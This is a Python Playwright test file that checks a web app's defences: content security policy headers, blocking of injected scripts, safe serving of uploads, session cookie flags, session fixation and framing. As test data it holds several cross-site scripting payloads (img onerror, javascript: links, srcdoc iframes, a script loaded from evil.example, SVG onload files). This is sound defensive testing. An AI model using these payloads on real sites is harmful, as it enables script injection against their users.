"""What the pages must never do: run what was injected, show what was uploaded, keep a session."""

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from api.demo.load import PASSWORD
from tests.web.served import Served

SignIn = Callable[..., Page]
SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" onload="window.ran = true">
<script>window.ran = true; top.ran = true</script><rect width="9" height="9"/></svg>"""
HTML = (
    b"<!doctype html><script>window.ran = true; opener && (opener.ran = true)</script><h1>hi</h1>"
)


def inject(page: Page, script: str) -> Any:
    """From inside the page, as an injected text would; the browser's own tools are not bound."""
    return page.evaluate(f"() => {{ {script} }}")


@pytest.mark.parametrize(
    "script",
    [
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = true\">')",
        (
            "const s = document.createElement('script'); s.textContent = 'window.ran = true';"
            " document.body.append(s)"
        ),
        (
            "const s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
            " document.body.append(s)"
        ),
        (
            "const s = document.createElement('script'); s.src = 'data:text/javascript,window.ran=true';"
            " document.body.append(s)"
        ),
        (
            "const f = document.createElement('iframe'); f.srcdoc = '<script>top.ran = true</script>';"
            " f.onload = () => { window.settled = true }; document.body.append(f)"
        ),
        (
            "const a = document.createElement('a'); a.href = 'javascript:window.ran = true';"
            " document.body.append(a); a.click()"
        ),
        # later, as what the browser's own tools call at once is not bound by the policy
        (
            "setTimeout(() => { try { new Function('window.ran = true')() } catch (e) {}"
            " window.settled = true })"
        ),
        (
            "const b = document.createElement('base'); b.href = 'https://evil.example/';"
            " document.head.append(b); if (document.baseURI.includes('evil')) window.ran = true"
        ),
    ],
)
def test_should_run_nothing_that_was_injected(
    script: str, sign_in: SignIn, troubles: list[str]
) -> None:
    # given
    page = sign_in("zhao.min", path="account")
    page.evaluate(
        "() => { window.stopped = []; document.addEventListener('securitypolicyviolation',"
        " (event) => window.stopped.push(event.violatedDirective)) }"
    )
    # when
    inject(page, script)
    # then
    page.wait_for_function("() => window.stopped.length > 0 || window.ran || window.settled")
    assert page.evaluate("() => window.ran") is None
    troubles.clear()  # stopped, as it should be


def test_should_send_what_is_needed_with_every_answer(served: Served) -> None:
    for path in ("/app/", "/app/tasks", "/health", "/public/directories", "/nothing/here"):
        headers = served.office.anonymous().raw("GET", path).headers
        policy = {
            name: rest.split()
            for part in headers["content-security-policy"].split(";")
            for name, _, rest in (part.strip().partition(" "),)
        }
        assert policy["default-src"] == ["'self'"], path
        assert policy.get("script-src", ["'self'"]) == ["'self'"]
        assert policy["object-src"] == policy["frame-ancestors"] == ["'none'"]
        assert policy["base-uri"] == policy["form-action"] == ["'self'"]
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "same-origin"
        assert headers["cross-origin-opener-policy"] == "same-origin"


def test_should_keep_inline_scripts_out_of_the_document(served: Served) -> None:
    text = served.office.anonymous().raw("GET", "/app/").text
    assert "<script>" not in text and "onload=" not in text and "javascript:" not in text


@pytest.mark.parametrize(
    ("name", "media_type", "content"),
    [
        ("plan.svg", "image/svg+xml", SVG),
        ("plan.html", "text/html", HTML),
        ("plan.png", "image/png", SVG),
        ("plan.pdf", "application/pdf", HTML),
        ("plan.txt", "text/plain", HTML),
    ],
)
def test_should_never_show_an_upload_as_a_page(
    name: str, media_type: str, content: bytes, served: Served, sign_in: SignIn
) -> None:
    # given
    applicant = served.api("chen.jing")
    answer = applicant.raw(
        "POST",
        "/attachments",
        content=content,
        params={"name": name, "media_type": media_type},
        headers={"Content-Type": "application/octet-stream", "Idempotency-Key": name},
    )
    if answer.status_code == 422:
        return  # not taken at all: the kind is not allowed, or it does not look like what it says
    # when somebody opens its address in the browser
    sha256 = answer.json()["sha256"]
    served_as = applicant.raw("GET", f"/attachments/{sha256}/content")
    # then it is a file to save, of the type it was taken for
    assert served_as.headers["content-disposition"].startswith("attachment")
    assert served_as.headers["x-content-type-options"] == "nosniff"
    assert "html" not in served_as.headers["content-type"]
    assert "svg" not in served_as.headers["content-type"]
    page = sign_in("chen.jing", path="account")
    with page.expect_download() as download:
        page.evaluate(f"() => {{ window.open('/attachments/{sha256}/content') }}")
    assert download.value.suggested_filename == name
    assert page.evaluate("() => window.ran") is None


def test_should_take_no_markup_as_an_image(served: Served) -> None:
    for name, media_type in (("a.svg", "image/svg+xml"), ("a.html", "text/html")):
        answer = served.api("chen.jing").raw(
            "POST",
            "/attachments",
            content=SVG,
            params={"name": name, "media_type": media_type},
            headers={"Content-Type": "application/octet-stream"},
        )
        assert answer.status_code == 422, name


def test_should_show_injected_texts_as_texts(served: Served, sign_in: SignIn) -> None:
    # given: a name that would be a script in a careless page
    name = '<img src=x onerror="window.ran=true">'
    body = {"id": "evil.one", "name_zh": name, "name_en": name}
    served.api("admin").command("/people", body)
    # when
    page = sign_in("admin", path="people?search=evil")
    # then
    expect(page.get_by_role("link", name=name)).to_be_visible()
    assert page.evaluate("() => window.ran") is None


def test_should_hide_the_session_from_scripts_and_other_sites(
    served: Served, sign_in: SignIn
) -> None:
    page = sign_in("zhao.min", path="account")
    cookie = next(
        each for each in page.context.cookies() if each["name"] in ("__Host-huiqian", "huiqian")
    )
    assert cookie["httpOnly"] is True
    assert cookie["sameSite"] == "Lax"
    assert cookie["secure"] is True
    assert cookie["path"] == "/"
    assert page.evaluate("() => document.cookie") == ""


def test_should_not_go_on_with_a_session_that_was_planted(
    served: Served, new_page: Callable[..., Page]
) -> None:
    # given: an attacker's session stands in the victim's browser
    page = new_page()
    page.request.post("/sessions", data={"user": "li.wei", "password": PASSWORD})
    planted = next(each for each in page.context.cookies() if "huiqian" in each["name"])
    # when the victim signs in
    page.request.post("/sessions", data={"user": "zhao.min", "password": PASSWORD})
    # then it has another secret, and the planted one opens nothing any more
    present = next(each for each in page.context.cookies() if "huiqian" in each["name"])
    assert present["value"] != planted["value"]
    headers = {"Cookie": f"{planted['name']}={planted['value']}"}
    assert served.office.anonymous().raw("GET", "/me", headers=headers).status_code == 401


def test_should_not_be_framed(served: Served, new_page: Callable[..., Page]) -> None:
    page = new_page()
    page.route(
        "https://evil.example/",
        lambda route: route.fulfill(
            content_type="text/html", body=f'<iframe src="{served.url}/app/"></iframe>'
        ),
    )
    page.goto("https://evil.example/")
    frame = page.frames[-1]
    expect(page.frame_locator("iframe").get_by_role("main")).to_have_count(0)
    assert "app" not in frame.title()
